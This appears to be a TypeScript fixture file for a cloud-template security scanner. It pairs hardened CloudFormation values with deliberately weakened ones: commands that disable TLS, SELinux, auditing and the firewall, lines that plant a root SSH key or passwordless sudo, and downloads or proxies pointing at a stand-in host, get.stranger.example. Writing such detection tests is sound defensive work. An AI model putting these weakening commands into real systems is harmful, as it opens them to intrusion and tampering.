import type { AddedWeakness } from './added-weakness';
import { weakenOneValue } from './one-value';
import { OWN, STRANGER } from './trust-case';

const HOST = 'get.stranger.example';
const TEMPLATE = { MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 } };
const encode = (command: string) => ({ 'Fn::Base64': `#!/bin/bash\nset -eu\n${command}\n` });
const FUNCTION = {
  Handler: 'index.handler',
  Runtime: 'nodejs24.x',
  Role: `arn:aws:iam::${OWN}:role/app`,
  Code: { S3Bucket: `cdk-hnb659fds-assets-${OWN}-eu-central-1`, S3Key: 'app.zip' },
  TracingConfig: { Mode: 'Active' },
};

type Row = readonly [id: string, hardened: string, weak: string, names: RegExp];

/** Commands beside what they should be. */
const COMMANDS: readonly Row[] = [
  [
    'curl',
    'curl -sS https://s3.amazonaws.com/a',
    'curl -sSk https://s3.amazonaws.com/a',
    /any certificate of a server/,
  ],
  ['git', 'git config --global http.sslVerify true', 'git config --global http.sslVerify false', /any certificate/],
  ['ssh', 'ssh -i key app@10.0.0.1', 'ssh -o StrictHostKeyChecking=no app@10.0.0.1', /any host key/],
  ['packages', 'yum install -y nginx', 'yum install -y --nogpgcheck nginx', /packages without a signature/],
  ['selinux', 'setenforce 1', 'setenforce 0', /switches SELinux off/],
  ['audit', 'systemctl enable auditd', 'systemctl stop auditd', /stops a program that records/],
  ['firewall', 'iptables -L', 'iptables -F', /opens the firewall/],
  ['root-login', 'sshd -t', "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", /sign in as root/],
  ['ssh-key', 'ls -l /home', 'echo "ssh-ed25519 AAAA a" >> /root/.ssh/authorized_keys', /admits an SSH key/],
  ['sudo', 'id app', "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", /every right without a password/],
  ['writable', 'chmod -R 755 /opt/app', 'chmod -R 777 /opt/app', /every user write/],
  [
    'container',
    `docker run ${OWN}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
    `docker run --privileged ${OWN}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
    /rights of the machine/,
  ],
];

/** Variables beside what they should be. */
const VARIABLES: readonly Row[] = [
  ['PGSSLMODE', 'verify-full', 'disable', /does not verify the server/],
  ['VERIFY_SSL', 'true', 'false', /switches a protection off/],
  ['AUTH_ENABLED', 'true', 'false', /switches a protection off/],
  ['KAFKA_SECURITY_PROTOCOL', 'SASL_SSL', 'PLAINTEXT', /without TLS/],
  [
    'MONGO_ADDRESS',
    'mongodb://db.internal/app?tls=true',
    'mongodb://db.internal/app?tls=false',
    /does not verify the server/,
  ],
  ['HTTPS_PROXY', 'http://10.0.0.1:3128', `http://${HOST}:3128`, /host get\.stranger\.example/],
  ['PIP_INDEX_URL', 'https://pypi.amazonaws.com/simple', `https://${HOST}/simple`, /host get\.stranger\.example/],
];

/** A machine whose metadata cfn-init carries out. */
function init(id: string, hardened: object, weak: object, names: RegExp): AddedWeakness {
  const machine = (config: object) => ({
    Machine: {
      Type: 'AWS::EC2::LaunchTemplate',
      Properties: { LaunchTemplateData: TEMPLATE },
      Metadata: { 'AWS::CloudFormation::Init': { config } },
    },
  });
  return {
    id: `init-${id}`,
    service: 'EC2',
    kind: 'trust in another party',
    hardened: machine(hardened),
    weaken: () => machine(weak),
    names,
  };
}

/** Protections that scripts, variables and metadata take away. */
export const switchedOffProtectionWeaknesses: readonly AddedWeakness[] = [
  ...COMMANDS.map(([id, hardened, weak, names]) =>
    weakenOneValue({
      id: `command-off-${id}`,
      kind: 'protection off in a script',
      type: 'AWS::EC2::LaunchTemplate',
      properties: { LaunchTemplateData: { ...TEMPLATE, UserData: encode(hardened) } },
      path: 'LaunchTemplateData.UserData',
      weak: encode(weak),
      names,
    }),
  ),
  ...VARIABLES.map(([name, hardened, weak, names]) =>
    weakenOneValue({
      id: `variable-off-${name.toLowerCase()}`,
      kind: 'protection off in a variable',
      type: 'AWS::Lambda::Function',
      properties: { ...FUNCTION, Environment: { Variables: { [name]: hardened } } },
      path: `Environment.Variables.${name}`,
      weak,
      names,
    }),
  ),
  init(
    'archive',
    { sources: { '/opt/app': `https://s3.amazonaws.com/tools-${OWN}/app.zip` } },
    { sources: { '/opt/app': `https://${HOST}/app.zip` } },
    /host get\.stranger\.example/,
  ),
  init(
    'file',
    { files: { '/opt/run': { source: `https://s3.amazonaws.com/tools-${OWN}/run` } } },
    { files: { '/opt/run': { source: 'https://s3.amazonaws.com/stranger-tools/run' } } },
    /bucket stranger-tools/,
  ),
  init(
    'package',
    { packages: { yum: { nginx: [] } } },
    { packages: { rpm: { agent: `https://${HOST}/agent.rpm` } } },
    /host get\.stranger\.example/,
  ),
  init(
    'role',
    { commands: { work: { command: `aws sts assume-role --role-arn arn:aws:iam::${OWN}:role/work` } } },
    { commands: { work: { command: `aws sts assume-role --role-arn arn:aws:iam::${STRANGER}:role/work` } } },
    /account 999988887777/,
  ),
];
